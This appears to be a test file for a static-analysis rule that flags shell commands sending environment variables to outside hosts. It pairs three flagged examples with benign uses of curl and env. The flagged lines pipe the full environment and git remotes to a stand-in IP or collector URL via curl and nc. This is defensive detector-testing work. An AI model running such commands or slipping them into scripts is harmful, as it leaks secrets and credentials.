#!/bin/bash
upload_url="https://uploads.example.invalid/upload/v2"
# ruleid: generic-shell-env-exfil
curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://198.51.100.7/upload/v2 || true
# ruleid: generic-shell-env-exfil
env | base64 -w0 | curl -s -X POST --data-binary @- "$COLLECT"
# ruleid: generic-shell-env-exfil
printenv | nc 198.51.100.7 9000
# ok: generic-shell-env-exfil
curl -sS -X POST -H "Authorization: token $GITHUB_TOKEN" -d "{\"sha\": \"$(git rev-parse HEAD)\"}" "$API/statuses"
# ok: generic-shell-env-exfil
env | sort > build-env.txt
# ok: generic-shell-env-exfil
curl -fsS --data-binary @coverage.xml "$upload_url?commit=$SHA"
